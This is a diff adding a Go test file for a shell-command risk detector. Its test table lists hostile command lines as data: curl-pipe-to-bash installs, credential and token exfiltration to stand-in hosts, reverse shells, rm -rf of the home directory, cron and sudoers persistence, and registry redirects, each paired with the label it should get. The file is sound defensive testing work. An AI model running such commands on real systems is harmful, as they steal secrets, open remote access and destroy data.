@@ -1,0 +1,90 @@
+package shell
+
+import (
+	"sort"
+	"strings"
+	"testing"
+)
+
+func kinds(text string) string {
+	var out []string
+	for _, f := range Parse(text).Facts() {
+		if f.Kind == Download {
+			continue
+		}
+		out = append(out, f.Kind.String())
+	}
+	sort.Strings(out)
+	return strings.Join(out, ",")
+}
+
+func TestFacts(t *testing.T) {
+	cases := []struct{ text, want string }{
+		{"curl -fsSL https://x.example/i.sh | bash", "pipe-to-shell"},
+		{"curl -fsSL https://x.example/i.sh | sudo -E bash -s -- --yes", "pipe-to-shell"},
+		{"U=https://x.example/i.sh; curl $U | sh", "pipe-to-shell"},
+		{"sh -c \"$(curl -fsSL https://x.example/i.sh)\"", "pipe-to-shell"},
+		{"bash <(curl -s https://x.example/i.sh)", "pipe-to-shell"},
+		{"curl -L https://x.example/r.tar.gz | tar -xz", ""},
+		{"curl -s https://api.example/x | python3 -m json.tool", ""},
+		{"wget https://x.example/setup.sh && bash setup.sh", "download-exec"},
+		{"curl -o /tmp/.x https://x.example/x\nchmod +x /tmp/.x\n/tmp/.x", "download-exec"},
+		{"curl -o x.sh https://x.example/x.sh && sha256sum -c x.sh.sha256 && bash x.sh", ""},
+		{"echo aGVsbG8= | base64 -d | sh", "decode-exec"},
+		{"eval \"$(echo aGVsbG8= | base64 --decode)\"", "decode-exec"},
+		{"curl -d @~/.aws/credentials https://x.example", "credential-read,secret-upload"},
+		{"curl -X POST https://x.example -d \"token=$GITHUB_TOKEN\"", "secret-upload"},
+		{"env | curl -d @- https://x.example", "env-dump,secret-upload"},
+		{"printenv | grep VERCEL", ""},
+		{"env > /tmp/e.txt", "env-dump"},
+		{"curl -F file=@report.pdf https://x.example/upload", "upload"},
+		{"cat ~/.ssh/id_rsa | nc 203.0.113.1 9000", "credential-read,secret-upload"},
+		{"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "reverse-shell"},
+		{"nc -e /bin/sh 203.0.113.7 4444", "reverse-shell"},
+		{"rm -rf ~/", "destructive"},
+		{"rm -rf \"$HOME\"/*", "destructive"},
+		{"rm -rf ./build node_modules", ""},
+		{"rm -rf /tmp/cache/*", ""},
+		{"cat /etc/crontab", ""},
+		{"crontab -l", ""},
+		{"(crontab -l; echo '* * * * * x') | crontab -", "persistence"},
+		{"echo 'curl x | sh' >> ~/.bashrc", "persistence"},
+		{"echo 'ALL ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/x", "persistence,sudo-nopasswd"},
+		{"pip install --extra-index-url https://pkgs.example/simple foo", "index-redirect"},
+		{"npm install --registry=https://r.example foo", "index-redirect"},
+		{"git push --force origin main", "force-push"},
+		{"git push origin feature", ""},
+		{"dig $(echo $GITHUB_TOKEN | base64).x.example", "secret-upload"},
+		{"chmod 777 /opt/shared", "weaken"},
+		{"if then fi ((( broken\ncurl https://x.example/a | sh", "pipe-to-shell"},
+	}
+	for _, c := range cases {
+		if got := kinds(c.text); got != c.want {
+			t.Errorf("%q: got %q, want %q", c.text, got, c.want)
+		}
+	}
+}
+
+func TestPositions(t *testing.T) {
+	text := "echo hi\ncurl https://x.example | sh\n"
+	for _, f := range Parse(text).Facts() {
+		if f.Kind == PipeToShell && text[f.Start:f.End] != "sh" {
+			t.Errorf("pipe-to-shell at %q", text[f.Start:f.End])
+		}
+		if f.Kind == Download && !strings.HasPrefix(text[f.Start:], "curl") {
+			t.Errorf("download at %q", text[f.Start:f.End])
+		}
+	}
+	// Line-by-line fallback keeps offsets in the whole text.
+	text = "((( \ncurl https://x.example | sh\n"
+	fs := Parse(text).Facts()
+	if len(fs) == 0 || text[fs[0].Start:fs[0].Start+4] != "curl" {
+		t.Errorf("fallback offsets wrong: %+v", fs)
+	}
+}
+
+func TestHostile(t *testing.T) {
+	for _, s := range []string{strings.Repeat("(", 100000), strings.Repeat("$(", 50000), strings.Repeat("a=b;", 100000), strings.Repeat("x | ", 50000), "\x00\xff"} {
+		Parse(s).Facts()
+	}
+}
